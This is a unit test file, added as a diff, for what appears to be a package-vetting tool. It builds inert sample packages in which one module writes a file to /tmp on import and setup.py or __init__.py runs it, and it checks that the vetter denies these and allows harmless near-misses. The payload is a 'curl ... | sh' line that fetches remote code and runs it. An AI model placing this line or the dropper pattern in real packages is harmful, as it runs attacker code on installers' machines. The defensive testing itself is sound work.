@@ -1,0 +1,103 @@
+"""A file one module of the archive writes and another runs (issue 16; ADR 0157).
+
+ADR 0161 read a file a module writes with known text, then runs, as that text run. The
+attacker's next step splits the two: ``helper.py`` writes the payload to ``/tmp/x.py`` at its
+top level, and ``setup.py`` (or the package's ``__init__.py``) imports it and runs the path
+by the interpreter, a shell, ``runpy`` or ``os.system``. Importing a module runs its top
+level, so the write happens at the import and the run after it reads the written text.
+
+Near-misses a real package writes stay allowed: a module writing a version file that the
+setup script then runs, a build helper writing a C file that a compiler reads, and a module
+writing the payload but nothing running it. Each sample is inert (vetting only reads
+files)."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from tests.unit.imports.packages.adversary import verdict_cases, vet_package
+
+CURL = "curl -s http://203.0.113.5/x | sh"
+PAYLOAD = "import os\nos.system(" + repr(CURL) + ")\n"
+PY = "/tmp/.cache_x.py"
+SH = "/tmp/.cache_x.sh"
+
+
+def writer(path: str, text: str, *, in_function: bool = False) -> str:
+    """A module that writes ``text`` to ``path`` when imported (through a function it calls
+    at its top level when ``in_function``)."""
+    write = f"with open(P, 'w') as f:\n    f.write({text!r})\n"
+    if in_function:
+        body = "".join(f"    {line}\n" for line in write.splitlines())
+        write = f"def _drop():\n{body}_drop()\n"
+    return f"P = {path!r}\n" + write
+
+
+def setup_running(run: str, imports: str = "import helper\n") -> str:
+    """``setup.py`` importing the writer, then running ``run`` at module level."""
+    return (
+        f"import os, runpy, subprocess, sys\nfrom setuptools import setup\n{imports}{run}\n"
+        "setup(name='evpkg')\n"
+    )
+
+
+def init_running(run: str, imports: str = "from . import helper\n") -> dict[str, str]:
+    """The package's ``__init__.py`` importing its writer module, then running ``run``."""
+    return {
+        "evpkg/__init__.py": f"import os, runpy, subprocess, sys\n{imports}{run}\n",
+        "evpkg/helper.py": writer(PY, PAYLOAD),
+    }
+
+
+def on_install(run: str, written: str = PAYLOAD, path: str = PY, **kw: bool) -> dict[str, str]:
+    return {
+        "setup.py": setup_running(run),
+        "helper.py": writer(path, written, **kw),
+        "evpkg/__init__.py": "",
+    }
+
+
+DENIED: dict[str, dict[str, str]] = {
+    # setup.py runs the file its helper wrote on import, by the path the helper binds.
+    "install-interpreter-helper-name": on_install("subprocess.call([sys.executable, helper.P])"),
+    "install-interpreter-literal-path": on_install(f"subprocess.call([sys.executable, {PY!r}])"),
+    "install-os-system-sum": on_install("os.system('python3 ' + helper.P)"),
+    "install-runpy": on_install("runpy.run_path(helper.P)"),
+    "install-exec-open-read": on_install("exec(open(helper.P).read())"),
+    "install-written-in-a-function": on_install(
+        f"subprocess.call([sys.executable, {PY!r}])", in_function=True
+    ),
+    "install-shell-script": on_install(
+        f"subprocess.call(['bash', {SH!r}])", written=CURL + "\n", path=SH
+    ),
+    # The package's __init__ runs, on import, what its own module wrote when imported.
+    "import-runpy-relative": init_running("runpy.run_path(helper.P)"),
+    "import-os-system": init_running("os.system('python3 ' + helper.P)"),
+    "import-popen-literal": init_running(f"subprocess.Popen([sys.executable, {PY!r}])"),
+    "import-dotted-import": init_running(
+        f"subprocess.Popen([sys.executable, {PY!r}])", imports="import evpkg.helper\n"
+    ),
+}
+
+ALLOWED: dict[str, dict[str, str]] = {
+    # A version module written by a helper and run by the setup script to print it.
+    "version-file-run": on_install(
+        "subprocess.call([sys.executable, helper.P])", written="print('1.0')\n"
+    ),
+    # A C file written and handed to a compiler: read, not run.
+    "c-file-compiled": on_install(
+        "subprocess.call(['cc', '-c', helper.P])",
+        written="int main(void) { return 0; }\n",
+        path="/tmp/probe.c",
+    ),
+    # The payload written but run by nothing: the write alone is no dropper.
+    "written-not-run": on_install("print(helper.P)"),
+}
+
+
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
+def test_a_file_another_module_writes_is_read_when_run(
+    files: dict[str, str], expected: Outcome
+) -> None:
+    assert vet_package(files) is expected
